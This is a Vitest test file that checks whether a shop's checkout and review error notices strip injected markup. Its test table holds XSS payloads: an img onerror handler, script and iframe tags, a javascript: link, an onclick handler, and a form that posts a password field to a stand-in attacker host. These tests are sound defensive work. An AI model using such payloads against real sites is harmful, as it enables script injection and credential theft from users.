import { fetchUi } from '@shop/core';
import { need } from '@shop/testing';
import { afterEach, beforeEach, expect, it, vi } from 'vitest';
import { showNoticesBefore, showOrderNotices, showReviewNotices } from './notice.page';

const ran = vi.fn();

beforeEach(() => {
  ran.mockReset();
  vi.stubGlobal('ran', ran);
  document.body.innerHTML = '<main><form class="checkout woocommerce-checkout"></form></main>';
});
afterEach(() => document.body.replaceChildren());

it.each([
  ['an image', '<img src=x onerror="ran()">'],
  ['a script', '<script>ran()</script>'],
  ['a frame', '<iframe srcdoc="<script>parent.ran()</script>"></iframe>'],
  ['a style', '<style>main { display: none }</style>'],
  ['a form', '<form action="https://evil.example/"><input name="password"></form>'],
  ['a link that runs script', '<a href="javascript:ran()">hier</a>'],
  ['a handler', '<b onclick="ran()">hier</b>'],
])('[XC-06] a notice with %s keeps its words and nothing that loads, runs or asks', async (_what, markup) => {
  const form = need('form');
  const html = `<ul class="woocommerce-error" role="alert"><li>Eins ${markup}</li></ul>`;
  showOrderNotices(form, html);
  showReviewNotices(form, 'error', html);
  await showNoticesBefore(form, 'error', html);
  await fetchUi();
  const notices = [...document.querySelectorAll('ul.woocommerce-error')];
  expect(notices).toHaveLength(3);
  for (const notice of notices) {
    expect(notice.textContent).toContain('Eins');
    expect(notice.querySelectorAll('img, script, iframe, style, form, input, [onclick], [href^="javascript"]')).toHaveLength(0);
  }
  expect(ran).not.toHaveBeenCalled();
});
